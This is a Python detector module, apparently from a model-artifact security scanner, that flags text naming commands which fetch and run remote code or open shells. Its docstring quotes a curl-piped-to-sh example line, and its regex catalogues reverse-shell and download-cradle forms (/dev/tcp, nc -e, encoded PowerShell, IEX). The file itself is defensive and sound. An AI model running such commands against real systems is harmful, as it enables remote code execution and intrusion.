"""A text fetches something and runs it, or opens a shell to an address.

In documentation such lines are instructions that people follow; in a configuration they are
unusual. Nothing runs them when the model is loaded, so this is worth knowing and no more.

Before: ``curl http://192.0.2.1/install.sh | sh``.
After: a package with a name, a version and a digest.

Sources: MITRE ATT&CK T1059, T1105; CWE-494.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from modelkeep.core import Confidence, Finding, Rule, Severity
from modelkeep.core.text import printable
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.texts import TEXT_FORMATS, windows

RULE: Final = Rule(
    id="SEC002",
    name="text-fetches-and-runs",
    summary="A text names a command that fetches code and runs it, or a bare address.",
    remedy="Do not follow the instruction; install from a package with a known digest.",
    topic="artifact.malicious_code",
    tags=("CWE-494",),
)
_COMMANDS: Final = re.compile(
    rb"\b(?:curl|wget)\b[^\n|]{1,200}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da)?sh\b"
    rb"|\bbash\s{1,4}-c\s{1,4}[\"']?\$\((?:curl|wget)\b|/dev/(?:tcp|udp)/[\w.]{1,64}/\d"
    rb"|\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand)?\s{1,4}[A-Za-z0-9+/=]{16}"
    rb"|\bn(?:c|cat)\b[^\n]{0,60}\s-e\s{0,4}/bin/|\bIEX\s?\(\s?(?:New-Object|iwr|irm)\b"
    rb"|\bhttps?://(?!127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)"
    rb"\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?/[^\s\"'<>]{1,80}",
    re.IGNORECASE,
)
_MOST: Final = 10


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per command."""
    seen: set[bytes] = set()
    for start, window in windows(context):
        for match in _COMMANDS.finditer(window):
            text = match.group()
            if text in seen or len(seen) >= _MOST:
                continue
            seen.add(text)
            shown = printable(text.decode("utf-8", "backslashreplace"))[:120]
            yield context.finding(
                RULE,
                Severity.INFO,
                f"the text says {shown!r}",
                offset=start + match.start(),
                confidence=Confidence.LOW,
                evidence={"text": shown},
            )


DETECTOR: Final = Detector(RULE, TEXT_FORMATS, run)
